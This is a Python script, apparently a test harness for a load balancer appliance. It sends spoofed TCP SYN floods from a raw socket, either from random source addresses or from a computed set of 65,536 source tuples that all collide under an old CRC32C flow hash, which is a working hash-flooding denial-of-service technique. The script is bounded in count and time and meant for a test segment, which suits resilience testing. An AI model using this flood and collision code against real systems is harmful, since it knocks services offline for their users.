#!/usr/bin/python3
"""Spoofed TCP SYNs at VIP:PORT from a raw socket, bounded in count and time.

usage: flood.py IFACE DST_MAC VIP PORT MODE [--count N] [--seconds S]
                [--pps R] [--tuples FILE]

MODE syn: SYNs from random sources (random address outside 0/8, 10/8,
  127/8 and 224/3; random port), as fast as one Python thread and the
  kernel send them, until COUNT were sent or SECONDS passed. Frames are
  made ahead (a pool of 65536 distinct tuples, sent round and round).
MODE collide: one SYN from each tuple of the set that collided under the
  old flow hash, CRC32C with the public seed 0x6c62 (rte_hash_crc of the
  16-byte flow key): the 2^16 (source address, source port) pairs in the
  null space of the CRC's linear part, all with one hash, less those whose
  source no client can have. --tuples writes them, "tcp SRC SPORT VIP PORT"
  per line (the input of `edgelbctl lookup -`).

--pps R paces the sending to R frames a second (default: as fast as it
goes). Run inside a namespace on the appliance's segment. Prints one JSON object:
sent, seconds, pps; for collide also tuples and old_crc_hash.
"""

import argparse
import ipaddress
import json
import os
import socket
import struct
import sys
import time

OLD_SEED = 0x6C62
CRC32C_POLY = 0x82F63B78  # reflected Castagnoli, as SSE4.2 crc32

_TABLE = []
for _i in range(256):
    _c = _i
    for _ in range(8):
        _c = (_c >> 1) ^ (CRC32C_POLY if _c & 1 else 0)
    _TABLE.append(_c)


def crc32c_u64(crc, word):
    """rte_hash_crc_8byte: the crc32 instruction on 8 bytes, no inversion."""
    for i in range(8):
        crc = _TABLE[(crc ^ (word >> (8 * i))) & 0xFF] ^ (crc >> 8)
    return crc


def flow_key(src, sport, dst, dport, proto=6):
    """struct lb_flow_key as the worker fills it: addresses and ports in
    network order, proto, three zero pad bytes."""
    return (socket.inet_aton(src) + socket.inet_aton(dst) +
            struct.pack("!HHB", sport, dport, proto) + b"\0\0\0")


def old_hash(key):
    w0, w1 = struct.unpack("<QQ", key)
    return crc32c_u64(crc32c_u64(OLD_SEED, w0), w1)


def collide_set(dst, dport):
    """Every (src, sport) whose flow key to dst:dport had the old hash of
    the first one: x ^ d collides with x for each d with crc0(d) = 0."""
    piv = {}
    null = []
    for j in range(48):
        # bit j: byte j / 8 of the source address (j < 32), else of the
        # source port at byte 8
        d = bytearray(16)
        d[j // 8 if j < 32 else 8 + (j - 32) // 8] = 1 << (j % 8)
        w0, w1 = struct.unpack("<QQ", d)
        v, c = crc32c_u64(crc32c_u64(0, w0), w1), 1 << j
        for b in range(31, -1, -1):
            if not v >> b & 1:
                continue
            if b not in piv:
                piv[b] = (v, c)
                break
            v ^= piv[b][0]
            c ^= piv[b][1]
        if v == 0:
            null.append(c)
    assert len(null) >= 16, "CRC null space smaller than 2^16"
    null = null[:16]
    base = flow_key("11.22.33.44", 40000, dst, dport)
    out = []
    for i in range(1 << 16):
        c = 0
        for b in range(16):
            if i >> b & 1:
                c ^= null[b]
        k = bytearray(base)
        for byte in range(4):
            k[byte] ^= (c >> (8 * byte)) & 0xFF
        k[8] ^= (c >> 32) & 0xFF
        k[9] ^= (c >> 40) & 0xFF
        out.append(bytes(k))
    return out


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def syn_frame(src_mac, dst_mac, src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02,
                      64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000,
                     64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def usable_src(a):
    """A source the appliance forwards: not 0/8, 10/8 (the test net),
    127/8, multicast or class E."""
    return a[0] not in (0, 10, 127) and a[0] < 224


def mac_bytes(s):
    return bytes(int(x, 16) for x in s.split(":"))


def main():
    p = argparse.ArgumentParser()
    p.add_argument("iface")
    p.add_argument("dst_mac")
    p.add_argument("vip")
    p.add_argument("port", type=int)
    p.add_argument("mode", choices=("syn", "collide"))
    p.add_argument("--count", type=int, default=1 << 30)
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--pps", type=float, default=0)
    p.add_argument("--tuples")
    a = p.parse_args()

    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    src_mac = s.getsockname()[4]
    dst_mac = mac_bytes(a.dst_mac)
    vip = socket.inet_aton(a.vip)
    result = {}
    frames = []
    if a.mode == "syn":
        rnd = os.urandom(6 * 65536)
        for i in range(65536):
            src = bytearray(rnd[6 * i:6 * i + 4])
            if not usable_src(src):
                src[0] = 1 + src[0] % 9    # 1..9: outside every excluded net
            sport = 1024 + int.from_bytes(rnd[6 * i + 4:6 * i + 6],
                                          "big") % 64000
            frames.append(syn_frame(src_mac, dst_mac, bytes(src), vip,
                                    sport, a.port, i))
    else:
        keys = collide_set(a.vip, a.port)
        h = old_hash(keys[0])
        assert all(old_hash(k) == h for k in keys), "not one CRC hash"
        keys = [k for k in keys if usable_src(k[:4])]
        result["tuples"] = len(keys)
        result["old_crc_hash"] = "0x%08x" % h
        if a.tuples:
            with open(a.tuples, "w") as f:
                for k in keys:
                    f.write("tcp %s %d %s %d\n" % (
                        socket.inet_ntoa(k[:4]),
                        struct.unpack("!H", k[8:10])[0], a.vip, a.port))
        for i, k in enumerate(keys):
            frames.append(syn_frame(src_mac, dst_mac, k[:4], vip,
                                    struct.unpack("!H", k[8:10])[0],
                                    a.port, i))
        a.count = min(a.count, len(frames))
    sent = 0
    n = len(frames)
    t0 = time.monotonic()
    deadline = t0 + a.seconds
    send = s.send
    while sent < a.count:
        # Check the clock once per 1024 frames: it costs as much as one.
        batch = 256 if a.pps > 0 else 1024
        for f in frames[sent % n:min(n, sent % n + batch,
                                     sent % n + a.count - sent)]:
            try:
                send(f)
            except BlockingIOError:
                continue
            sent += 1
        now = time.monotonic()
        if now >= deadline:
            break
        if a.pps > 0 and t0 + sent / a.pps > now:
            time.sleep(t0 + sent / a.pps - now)
    took = time.monotonic() - t0
    result.update({"sent": sent, "seconds": round(took, 3),
                   "pps": round(sent / took) if took > 0 else 0})
    print(json.dumps(result))


if __name__ == "__main__":
    sys.exit(main())
